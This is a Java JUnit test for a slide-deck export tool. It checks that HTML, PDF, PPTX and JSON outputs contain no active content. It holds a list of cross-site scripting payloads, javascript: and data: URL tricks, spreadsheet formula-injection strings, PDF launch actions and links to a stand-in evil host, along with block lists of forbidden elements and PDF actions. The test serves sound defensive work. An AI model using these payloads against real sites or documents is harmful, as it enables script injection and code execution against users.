package dev.rollcall.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rollcall.cli.terminal.ExitCode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Nothing executable reaches any format, and no address but http(s), mailto and tel. */
class ActiveContentTest {

  private static final Path ROOT = Path.of(System.getProperty("rollcall.root", ".."));

  /** What a deck may try to run, each on a slide of its own. */
  static final List<String> ATTEMPTS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<img src=x onerror=alert(1)>",
          "<b onclick=\"alert(1)\" onmouseover='alert(2)'>b</b>",
          "<svg onload=alert(1)><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\">x</a></svg>",
          "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
          "<iframe srcdoc=\"<script>alert(1)</script>\" src=\"javascript:alert(2)\"></iframe>",
          "<object data=\"x.swf\"></object><embed src=\"x.swf\"><applet code=x></applet>",
          "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(2)\">b</button></form>",
          "<base href=\"javascript:alert(1)//\"><meta http-equiv=refresh content=\"0;url=javascript:alert(2)\">",
          "<style>*{background:url(javascript:alert(1))} @import 'https://evil.example/x.css';</style>",
          "<p style=\"background:url(javascript:alert(1));behavior:url(x.htc)\">p</p>",
          "<a href=\"javascript:alert(1)\">a</a> <a href=\" java\tscript:alert(1)\">b</a>",
          "<a href=\"&#106;avascript:alert(1)\">a</a> <a href=\"&#x6A;avascript&colon;alert(1)\">b</a>",
          "<a href=\"vbscript:x\">a</a> <a href=\"data:text/html,<script>alert(1)</script>\">b</a>",
          "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](<java\nscript:alert(1)>)",
          "[a]: javascript:alert(1)\n\n[a] [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x)",
          "[a](file:///etc/passwd) [b](\\\\\\\\host\\\\share) [c](//host/share) [d](smb://host/x)",
          "[a](ms-word:ofe|u|https://evil.example/x.docm) [b](ppaction://program?x) [c](ldap://x)",
          "[a](mhtml:x) [b](jar:https://evil.example!/x) [c](blob:x) [d](about:blank) [e](chrome://x)",
          "[a](cmd.exe) [b](..\\\\..\\\\run.bat) [c](#x\" onclick=\"alert(1)) [d](\u0001javascript:alert(1))",
          "![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg onload=alert(1)>) ![c](x\" onerror=\"alert(1))",
          "![a\" onerror=\"alert(1)](x.png \"t\" onload=\"alert(1)\")",
          "<img src=\"a.svg\">\n\n![svg](a.svg)",
          "<!-- .slide: data-background=\"javascript:alert(1)\" data-background-iframe=\"https://evil.example\" -->",
          "<!-- .element: onclick=\"alert(1)\" -->",
          "=HYPERLINK(\"cmd|' /C calc'!A0\") =cmd|' /C calc'!A0 @SUM(1+1)*cmd|' /C calc'!A0",
          "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> #{7*7} {%youtube \"><script>alert(1)</script> %}",
          "```html\n<script>alert(1)</script>\n```\n\n`<script>alert(1)</script>`",
          "```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```",
          "$\\href{javascript:alert(1)}{x}$ :::info\" onclick=\"alert(1)\nx\n:::",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
          "<details ontoggle=alert(1) open><summary>s</summary>t</details> <video onplay=x><source onerror=alert(1)></video>",
          "<font color=\"red;background:url(javascript:alert(1))\">x</font> <span style=\"color:expression(alert(1))\">y</span>",
          "*[X]: \"><script>alert(1)</script>\n\nX [^1]\n\n[^1]: <script>alert(1)</script>[n](javascript:alert(1))",
          "</div></section></article></body></html><script>alert(1)</script>",
          "(%PDF-1.4) /JavaScript /JS (app.alert\\(1\\)) /OpenAction << /S /Launch >> endobj stream",
          "]]></a:t></a:r><a:hlinkClick r:id=\"x\" action=\"ppaction://program\"/><![CDATA[",
          "<a href=\"https://a.example\" target=_blank ping=\"https://evil.example\">p</a>",
          "<title>x</title><link rel=import href=\"https://evil.example\"><template><script>x</script></template>");

  private static final Set<COSName> ACTIVE =
      Stream.of(
              "JavaScript",
              "JS",
              "Launch",
              "EmbeddedFiles",
              "EmbeddedFile",
              "AA",
              "RichMedia",
              "XFA",
              "SubmitForm",
              "ImportData",
              "GoToR",
              "GoToE",
              "Rendition",
              "Movie",
              "Sound",
              "AcroForm")
          .map(COSName::getPDFName)
          .collect(Collectors.toSet());

  private static final Pattern ADDRESS =
      Pattern.compile("(?i)(?:https?|mailto|tel):.*", Pattern.DOTALL);

  @TempDir Path folder;

  @Test
  void nothingExecutableReachesAnyFormat() throws IOException {
    Files.writeString(
        folder.resolve("a.svg"),
        "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='alert(1)'><script>alert(1)</script>"
            + "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject><rect width='5' height='5'/></svg>");
    String slides =
        ATTEMPTS.stream()
            .map(a -> "\n\n---\n\n# Team A\n\n" + a + "\n\nNote:\n" + a.replaceAll("\n.*", ""))
            .collect(Collectors.joining());
    Files.writeString(folder.resolve("attempts.md"), "# Call <script>alert(1)</script>\n" + slides);
    Files.writeString(
        folder.resolve("matter.md"),
        "---\ntitle: '\"><script>alert(1)</script>'\nlang: '\" onload=\"alert(1)'\ntags: ['<script>', 'javascript:x']\n---\n\n# \"><script>alert(1)</script>\n");
    List<Path> decks =
        new ArrayList<>(List.of(folder.resolve("attempts.md"), folder.resolve("matter.md")));
    decks.add(ROOT.resolve("examples/community-call.md"));
    decks.add(Path.of("src/test/resources/corpus/hostile/input.md"));
    for (Path deck : decks) {
      for (String mode : List.of("fragment", "page")) {
        Path out = Files.createTempDirectory(folder, "out");
        CommandRun run =
            CommandRun.in(
                folder,
                "export",
                "--to",
                "pdf,pptx,html,json",
                "--html",
                mode,
                "--set",
                "html.notes=true",
                "--set",
                "pdf.notes=true",
                "-o",
                out + "/",
                deck.toAbsolutePath().toString());
        assertEquals(ExitCode.DONE, run.exit(), run.err());
        try (Stream<Path> files = Files.list(out)) {
          for (Path file : files.toList()) {
            check(file);
          }
        }
        assertPackageIsPassive(Unpacked.of(out));
      }
    }
  }

  private static void check(Path file) throws IOException {
    String name = String.valueOf(file.getFileName());
    if (name.endsWith(".pdf")) {
      assertPdfIsPassive(file);
    } else if (name.endsWith(".html")) {
      assertHtmlIsPassive(Jsoup.parse(Files.readString(file)), name);
    } else if (name.endsWith(".embed.json")) {
      String html =
          new tools.jackson.databind.json.JsonMapper()
              .readTree(file.toFile())
              .path("html")
              .asString();
      assertHtmlIsPassive(Jsoup.parse(html), name);
    }
  }

  private static void assertHtmlIsPassive(Element page, String where) {
    Set<String> forbidden =
        Set.of(
            "script",
            "iframe",
            "object",
            "embed",
            "applet",
            "base",
            "form",
            "button",
            "frame",
            "template",
            "noscript",
            "video",
            "audio",
            "svg",
            "math",
            "portal");
    for (Element element : page.getAllElements()) {
      // A page tells search engines of the call in a block of data, which no browser runs.
      boolean data =
          element.normalName().equals("script")
              && element.attr("type").equals("application/ld+json")
              && element.attributes().size() == 1
              && !element.data().contains("<");
      assertTrue(data || !forbidden.contains(element.normalName()), where + ": " + element);
      assertTrue(!element.hasAttr("http-equiv"), where + ": " + element);
      for (Attribute attribute : element.attributes()) {
        String key = attribute.getKey().toLowerCase(Locale.ROOT);
        assertTrue(
            !key.startsWith("on") && !key.equals("srcdoc") && !key.equals("ping"),
            where + ": " + element);
        if (key.equals("href") || key.equals("src")) {
          String value = attribute.getValue();
          boolean relative = !value.matches("(?s)[^/?#]*:.*");
          boolean picture =
              key.equals("src")
                  && value.matches("data:image/(?:png|jpeg|gif|webp);base64,[\\w+/=]*");
          assertTrue(
              relative || picture || ADDRESS.matcher(value).matches(), where + ": " + element);
        }
        if (key.equals("style")) {
          assertTrue(
              !attribute
                  .getValue()
                  .toLowerCase(Locale.ROOT)
                  .matches("(?s).*(?:url|expression|behavior|@import).*"),
              where + ": " + element);
        }
      }
    }
  }

  private static void assertPdfIsPassive(Path file) throws IOException {
    try (PDDocument document = Loader.loadPDF(file.toFile())) {
      for (COSObjectKey key : document.getDocument().getXrefTable().keySet()) {
        assertPassive(
            document.getDocument().getObjectFromPool(key).getObject(), file + " " + key, 0);
      }
      COSBase open =
          document.getDocumentCatalog().getCOSObject().getDictionaryObject(COSName.OPEN_ACTION);
      assertTrue(!(open instanceof COSDictionary), "it does something when it is opened");
    }
  }

  private static void assertPassive(COSBase base, String where, int depth) {
    if (depth > 20) {
      return; // nested objects are looked at by themselves, too
    }
    if (base instanceof COSDictionary dictionary) {
      for (Map.Entry<COSName, COSBase> entry : dictionary.entrySet()) {
        assertTrue(!ACTIVE.contains(entry.getKey()), where + entry.getKey());
        if (entry.getValue() instanceof COSName name && entry.getKey().equals(COSName.S)) {
          assertTrue(!ACTIVE.contains(name), where + name);
        }
        if (entry.getKey().equals(COSName.URI) && entry.getValue() instanceof COSString uri) {
          assertTrue(
              ADDRESS.matcher(uri.getString()).matches() || !uri.getString().contains(":"),
              where + uri.getString());
        }
        assertPassive(entry.getValue(), where, depth + 1);
      }
    } else if (base instanceof COSArray array) {
      for (COSBase element : array) {
        assertPassive(element, where, depth + 1);
      }
    }
  }

  private static final Pattern EXTERNAL =
      Pattern.compile("<Relationship\\b[^>]*TargetMode=\"External\"[^>]*>");
  private static final Pattern ACTION = Pattern.compile("<[^<>]*\\baction=\"([^\"]+)\"");

  private static void assertPackageIsPassive(Unpacked results) {
    Map<String, String> parts = results.ending("");
    assertTrue(
        parts.keySet().stream().anyMatch(name -> name.contains(".pptx/ppt/slides/slide1.xml")));
    parts.forEach(
        (name, text) -> {
          if (!name.contains(".pptx/")) {
            return;
          }
          assertTrue(
              !name.matches(
                  "(?i).*(?:vba|macro|activeX|embeddings|oleObject|ctrlProps|customUI|\\.bin).*"),
              name);
          if (name.endsWith("[Content_Types].xml")) {
            assertTrue(
                !text.matches("(?is).*(?:macroEnabled|vbaProject|oleObject|activeX).*"), text);
          }
          if (name.endsWith(".rels")) {
            EXTERNAL
                .matcher(text)
                .results()
                .map(MatchResult::group)
                .forEach(ActiveContentTest::assertLink);
          } else if (name.endsWith(".xml")) {
            ACTION
                .matcher(text)
                .results()
                .map(match -> match.group(1))
                .forEach(
                    action ->
                        assertTrue(
                            action.matches("ppaction://hlink(?:sldjump|showjump\\?jump=\\w+)"),
                            name + action));
            assertTrue(!text.contains("<p:oleObj") && !text.contains("<p:control"), name);
          }
        });
  }

  private static void assertLink(String relation) {
    assertTrue(relation.contains("/relationships/hyperlink\""), relation);
    String target = relation.replaceAll("(?s).*\\bTarget=\"([^\"]*)\".*", "$1");
    assertTrue(ADDRESS.matcher(target).matches() || !target.matches("(?s)[^/?#]*:.*"), relation);
  }
}
